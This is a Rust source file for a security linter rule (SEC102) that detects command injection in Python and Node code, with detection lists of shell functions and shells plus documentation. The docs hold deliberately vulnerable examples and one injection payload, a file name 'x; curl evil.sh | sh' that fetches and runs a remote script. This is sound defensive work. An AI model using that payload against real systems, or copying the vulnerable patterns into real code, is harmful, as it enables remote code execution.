//! SEC102 command-injection: a shell command built from non-constant data.

use ba_syntax::NodeExt;
use tree_sitter::Node;

use crate::{
    Applicability, Captures, Category, Check, Checker, Edit, FixAvailability, Rule, Severity,
};
use ba_analysis::taint::Taint;
use ba_analysis::{argument_removal_range, named_children, Sink};
use ba_syntax::Family;

pub static RULE: Rule = Rule {
    code: "SEC102",
    name: "command-injection",
    category: Category::Security,
    severity: Severity::Error,
    cwe: &[78],
    owasp: Some("A03:2021 Injection"),
    summary: "A shell command is built from non-constant data; run the program with an argument list and no shell instead.",
    docs: DOCS,
    fix: FixAvailability::Sometimes,
    classes: crate::classes::RUNTIME_AND_SCRIPTS,
    checks: &[
        Check {
            family: Family::Python,
            query_path: "python/calls.scm",
            query: include_str!("../../../../queries/python/calls.scm"),
            run: check_python,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: check_javascript,
        },
        // `sink = "shell"` rows of the detection models (docs/models.md).
        Check {
            family: Family::Python,
            query_path: "python/calls.scm#models",
            query: include_str!("../../../../queries/python/calls.scm"),
            run: super::model_sinks::check::<{ Sink::Shell as u8 }>,
        },
        Check {
            family: Family::JavaScript,
            query_path: "javascript/calls.scm#models",
            query: include_str!("../../../../queries/javascript/calls.scm"),
            run: super::model_sinks::check::<{ Sink::Shell as u8 }>,
        },
    ],
};

/// Functions that use a shell only with `shell=True`.
const PY_SHELL_OPTIONAL: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
];

/// Functions that run a program named by an argument: the first, or for `os.spawn*` the second
/// (after the mode).
const PY_EXEC: &[&str] = &[
    "os.execl",
    "os.execle",
    "os.execlp",
    "os.execlpe",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.execvpe",
    "os.spawnl",
    "os.spawnle",
    "os.spawnlp",
    "os.spawnlpe",
    "os.spawnv",
    "os.spawnve",
    "os.spawnvp",
    "os.spawnvpe",
    "os.posix_spawn",
    "os.posix_spawnp",
    "asyncio.create_subprocess_exec",
];

/// Whether `shell=` is given a value Python takes as true: `True`, a non-zero number, a
/// non-empty string or display (`shell='True'` and `shell='False'` both start a shell), or a
/// local name bound only to such values (`use_shell = True`).
fn is_true<'a>(checker: &Checker<'a>, node: Node<'a>) -> bool {
    truthy(checker, node, 0)
}

fn truthy<'a>(checker: &Checker<'a>, node: Node<'a>, depth: u32) -> bool {
    match node.kind_str() {
        "true" => true,
        "integer" | "float" => checker
            .text(node)
            .replace('_', "")
            .parse::<f64>()
            .is_ok_and(|n| n != 0.0),
        "string" => ba_analysis::string_value(checker.language, node, checker.source)
            .is_some_and(|s| !s.is_empty()),
        "list" | "tuple" | "dictionary" | "set" => node.named_child_count() > 0,
        "identifier" if depth == 0 => {
            checker.text(node) == "True"
                || matches!(checker.lookup(node), ba_analysis::Lookup::Local(bindings)
                    if !bindings.is_empty() && bindings.iter().all(|b| matches!(b,
                        ba_analysis::Binding::Value(v) if truthy(checker, *v, depth + 1))))
        }
        _ => checker.text(node) == "True",
    }
}

/// Shells that run their `-c` argument as a script.
const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "/bin/sh",
    "/bin/bash",
    "cmd",
    "cmd.exe",
    "powershell",
    "pwsh",
];

fn check_python<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args_node)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    if func.kind_str() == "attribute"
        && func
            .field("attribute")
            .is_some_and(|a| checker.text(a) == "exec_command")
    {
        check_remote(checker, func, args_node);
        return;
    }
    // Functions that always hand their first argument to a shell: `sink = "shell"` rows with
    // `reported-by = "rule"` (stdlib.toml).
    if let Some((name, cmd)) = super::sink_argument(checker, func, args_node, Sink::Shell) {
        if let Some(taint) = checker
            .taint(cmd, Sink::Shell)
            .filter(|t| !passes_parameter_on(checker, cmd, t))
        {
            let text = super::callee(checker.text(cmd));
            let from = checker.describe(&taint);
            checker.report(func, format!(
                "`{name}` runs `{text}` through a shell, built from {from}; use `subprocess.run([...])` with an argument list instead"
            )).with_taint(&taint);
        }
        return;
    }
    let Some(name) = checker.resolve_callee_among(func, &[PY_SHELL_OPTIONAL, PY_EXEC]) else {
        return;
    };
    let args = checker.arguments(args_node);
    if PY_EXEC.contains(&name.as_str()) {
        let index = usize::from(name.starts_with("os.spawn"));
        if let Some(program) = args.positional.get(index).filter(|_| !checker.audit) {
            if let Some(taint) = checker.taint(*program, Sink::Shell).filter(|t| t.user) {
                let from = checker.describe(&taint);
                checker
                    .report(func, format!(
                        "`{name}` runs a program chosen by {from}; pick the program from a fixed table"
                    ))
                    .with_taint(&taint);
            }
        }
        return;
    }
    if !PY_SHELL_OPTIONAL.contains(&name.as_str()) {
        return;
    }
    let Some(cmd) = args.get(0, "args", checker.source) else {
        return;
    };
    let is_list = matches!(cmd.kind_str(), "list" | "tuple");
    let shell = args
        .keyword_node("shell", checker.source)
        .filter(|s| s.field("value").is_some_and(|v| is_true(checker, v)));
    let Some(shell) = shell else {
        check_argv(checker, func, &name, cmd, is_list);
        return;
    };
    // With a list, only the first element is the shell command, but callers who pass a list
    // with shell=True expect each element to be one argument: judge every element.
    let taint = if is_list {
        named_children(cmd).into_iter().fold(None, |best, e| {
            Taint::best(best, checker.taint(e, Sink::Shell))
        })
    } else {
        checker
            .taint(cmd, Sink::Shell)
            .filter(|t| !passes_parameter_on(checker, cmd, t))
    };
    let Some(taint) = taint else {
        return;
    };
    let text = super::callee(checker.text(cmd));
    let from = checker.describe(&taint);
    if is_list {
        let removal = argument_removal_range(shell);
        checker
            .report(func, format!(
                "`{name}` is called with `shell=True` and a list built from {from}{}; with a shell only the first element is run as the command; drop `shell=True`",
                super::expression_note(&from, checker.text(cmd))
            ))
            .with_fix("Remove `shell=True`", Applicability::Safe, vec![Edit { range: removal, content: String::new() }])
            .with_taint(&taint);
    } else {
        let argv = super::command_argv::argv(checker, cmd);
        let finding = checker.report(func, format!(
            "`{name}` runs `{text}` through a shell (`shell=True`), built from {from}; pass an argument list and drop `shell=True` (or `shlex.quote` each value)"
        ));
        finding.with_taint(&taint);
        if let Some(argv) = argv {
            finding.with_fix(
                "Pass an argument list and drop `shell=True`",
                Applicability::Unsafe,
                vec![
                    Edit {
                        range: cmd.byte_range(),
                        content: argv,
                    },
                    Edit {
                        range: argument_removal_range(shell),
                        content: String::new(),
                    },
                ],
            );
        }
    }
}

/// `subprocess.run(argv)` without a shell: only a program chosen by the client, or a shell
/// given a client's script with `-c`, is an injection.
fn check_argv<'a>(
    checker: &mut Checker<'a>,
    func: Node<'a>,
    name: &str,
    cmd: Node<'a>,
    is_list: bool,
) {
    let elements = if is_list {
        named_children(cmd)
    } else {
        vec![cmd]
    };
    let Some(first) = elements.first().copied() else {
        return;
    };
    let program = ba_analysis::string_value(checker.language, first, checker.source);
    let script = match program {
        Some(p) if SHELLS.contains(&p) => elements
            .iter()
            .position(|e| {
                ba_analysis::string_value(checker.language, *e, checker.source) == Some("-c")
            })
            .and_then(|i| elements.get(i + 1).copied()),
        _ => None,
    };
    let (node, what) = match script {
        Some(s) => (s, "a shell script (`-c`)"),
        None if program.is_none() => (first, "the program"),
        None => return,
    };
    // A program re-running itself with its own command line (`sys.argv`) is not an injection.
    // Without a shell, a program named by data of unknown origin is what every tool that runs
    // other tools does: audit mode reports only scripts.
    if checker.audit && script.is_none() {
        return;
    }
    let Some(taint) = checker
        .taint(node, Sink::Shell)
        .filter(|t| t.user && !t.what.contains("argv"))
    else {
        return;
    };
    let from = checker.describe(&taint);
    checker
        .report(func, format!(
            "`{name}` takes {what} from {from}; choose the program from a fixed table and pass client data only as separate arguments"
        ))
        .with_taint(&taint);
}

/// paramiko's `client.exec_command(cmd)` runs `cmd` in the remote user's shell.
fn check_remote<'a>(checker: &mut Checker<'a>, func: Node<'a>, args: Node<'a>) {
    let Some(cmd) = checker.arguments(args).get(0, "command", checker.source) else {
        return;
    };
    // Running a command is what the API is for: a caller's command passed through as is is
    // not news; request data, or a command built here from the caller's data, is.
    let Some(taint) = checker
        .taint(cmd, Sink::Shell)
        .filter(|t| t.user || cmd.kind_str() != "identifier")
    else {
        return;
    };
    let from = checker.describe(&taint);
    checker
        .report(func, format!(
            "`exec_command` runs `{}` in the remote shell, built from {from}; `shlex.quote` each value",
            super::callee(checker.text(cmd))
        ))
        .with_taint(&taint);
}

/// Functions that run a program with an argument list (and a shell only with `shell: true`).
const JS_ARGV: &[&str] = &[
    "child_process.execFile",
    "child_process.execFileSync",
    "child_process.spawn",
    "child_process.spawnSync",
    "execa",
    "execa.execa",
    "execa.execaSync",
];
/// Whether an options object says `shell: true` (or names a shell).
fn js_shell_option(checker: &Checker, options: Node) -> bool {
    options.kind_str() == "object"
        && named_children(options).into_iter().any(|p| {
            p.kind_str() == "pair"
                && p.field("key")
                    .is_some_and(|k| checker.text(k).trim_matches(['"', '\'']) == "shell")
                && p.field("value")
                    .is_some_and(|v| v.kind_str() != "false" && checker.text(v) != "undefined")
        })
}

fn check_javascript<'a>(checker: &mut Checker<'a>, caps: &Captures<'_, 'a>) {
    let (Some(func), Some(args)) = (caps.get("func"), caps.get("args")) else {
        return;
    };
    // Functions that run their first argument through a shell: `sink = "shell"` rows with
    // `reported-by = "rule"` (node.toml, sinks.toml); the argv functions below use one only
    // when told to.
    let shell_row = super::rule_sink(checker, func, Sink::Shell);
    let Some(name) = shell_row
        .as_ref()
        .map(|(name, _)| name.clone())
        .or_else(|| checker.resolve_callee(func, JS_ARGV))
    else {
        return;
    };
    let args: Vec<Node> = named_children(args)
        .into_iter()
        .filter(|a| a.kind_str() != "comment")
        .collect();
    let Some(cmd) = args.first().copied() else {
        return;
    };
    let method = name.rsplit('.').next().unwrap_or("exec");
    if shell_row.is_some() {
        let Some(taint) = checker
            .taint(cmd, Sink::Shell)
            .filter(|t| !passes_parameter_on(checker, cmd, t))
        else {
            return;
        };
        let file = if method == "execSync" {
            "execFileSync"
        } else {
            "execFile"
        };
        let text = super::callee(checker.text(cmd));
        let from = checker.describe(&taint);
        checker
            .report(func, format!(
                "`{method}` runs `{text}` through a shell, built from {from}; use `{file}(program, [args])`, which passes arguments without a shell"
            ))
            .with_taint(&taint);
        return;
    }
    // `spawn(program, [args], { shell: true })`: the program and the arguments are joined
    // into one shell command.
    let list = args.get(1).copied().filter(|a| a.kind_str() == "array");
    let shell = args.iter().skip(1).any(|a| js_shell_option(checker, *a));
    if shell {
        let mut parts = vec![cmd];
        parts.extend(list.map(named_children).unwrap_or_default());
        let taint = parts.into_iter().fold(None, |best, e| {
            Taint::best(best, checker.taint(e, Sink::Shell))
        });
        if let Some(taint) = taint {
            let from = checker.describe(&taint);
            checker
                .report(func, format!(
                    "`{method}` is called with `shell: true` and a command built from {from}; drop `shell: true` so the arguments reach the program unparsed"
                ))
                .with_taint(&taint);
        }
        return;
    }
    // Without a shell only a client-chosen program, or a client's script for `sh -c`, is an
    // injection.
    let program = ba_analysis::string_value(checker.language, cmd, checker.source);
    let elements = list.map(named_children).unwrap_or_default();
    let (node, what) = match program {
        Some(p) if SHELLS.contains(&p) => {
            let Some(script) = elements
                .iter()
                .position(|e| {
                    ba_analysis::string_value(checker.language, *e, checker.source) == Some("-c")
                })
                .and_then(|i| elements.get(i + 1).copied())
            else {
                return;
            };
            (script, "a shell script (`-c`)")
        }
        Some(_) => return,
        // Audit mode reports shell scripts, not programs of unknown origin (see above).
        None if checker.audit => return,
        None => (cmd, "the program"),
    };
    let Some(taint) = checker
        .taint(node, Sink::Shell)
        .filter(|t| t.user && !t.what.contains("argv"))
    else {
        return;
    };
    let from = checker.describe(&taint);
    checker
        .report(func, format!(
            "`{method}` takes {what} from {from}; choose the program from a fixed table and pass client data only as separate arguments"
        ))
        .with_taint(&taint);
}

/// `def _run(cmd): os.system(cmd)`, a nested `get(cmd)` helper, `const sh = (cmd) =>
/// execSync(cmd)` in a release script: a private wrapper that runs the whole command its caller
/// gives it builds nothing; the callers in its own file build the command, and one passing
/// request data is reported at the wrapper with the path (the cross-function summaries carry the
/// parameter to the shell). A command the function builds from its parameter (`"curator
/// --index " + name`), and a public function others may call with anything, are still reported.
fn passes_parameter_on(checker: &Checker, cmd: Node, taint: &Taint) -> bool {
    if taint.user
        || cmd.kind_str() != "identifier"
        || checker.source.get(taint.origin.clone()) != Some(checker.text(cmd))
    {
        return false;
    }
    if checker.class == ba_app::FileClass::Script {
        return true;
    }
    let is_function = |n: Node| {
        matches!(n.kind_str(), "function_definition" | "lambda")
            || ba_analysis::routes::is_js_function(n.kind_str())
    };
    let mut node = cmd;
    let mut own: Option<Node> = None;
    while let Some(parent) = node.parent() {
        node = parent;
        if is_function(node) {
            if own.is_some() {
                // Nested in another function: only that function can call it.
                return true;
            }
            own = Some(node);
        }
    }
    // A module's private helper (`_run`).
    own.and_then(|f| f.field("name"))
        .is_some_and(|n| checker.text(n).starts_with('_'))
}

const DOCS: &str = r#"## What it does
Flags shell commands assembled from data the code does not fix: `os.system`, `os.popen`,
`subprocess.getoutput`, `subprocess.*(…, shell=True)` in Python, and `child_process.exec` /
`execSync` (and `shelljs.exec`) in Node, when the command holds request data or a function's
own parameters. `spawn`/`execFile` with `shell: true` are judged the same way; without a shell
they are reported only when the client chooses the program, or the script of `sh -c`. Commands
made only of constants, or whose variable parts pass through `shlex.quote` or `parseInt`, are
not reported; neither is `subprocess.run([...])` without a shell. A private wrapper that runs
the whole command its caller hands it (`def _run(cmd): os.system(cmd)`, a helper nested in
another function, any function in a script) is judged by its callers: it is reported, with the
path, when one of them passes request data.

## Why is this bad?
A shell interprets `;`, `|`, `$(…)` and backticks. A file name like `x; curl evil.sh | sh` turns
`os.system(f"convert {name} out.png")` into remote code execution on your server.

## Example
```python
def thumbnail(name: str):
    subprocess.run(f"convert {name} -resize 64x64 thumb.png", shell=True)
```
```javascript
const { exec } = require("child_process");
app.get("/ping", (req, res) => exec(`ping -c 1 ${req.query.host}`, (e, out) => res.send(out)));
```

## Use instead
```python
def thumbnail(name: str):
    subprocess.run(["convert", name, "-resize", "64x64", "thumb.png"], check=True)
```
```javascript
const { execFile } = require("child_process");
app.get("/ping", (req, res) =>
  execFile("ping", ["-c", "1", req.query.host], (e, out) => res.send(out)));
```

## Fix
When `shell=True` is passed together with a list, the safe fix removes `shell=True`: the list is
then run as the program and its arguments, which is what the list form means.

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- [OWASP A03:2021 Injection](https://owasp.org/Top10/A03_2021-Injection/)
- [Python `subprocess` security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
- [Node.js `child_process.execFile`](https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback)
"#;
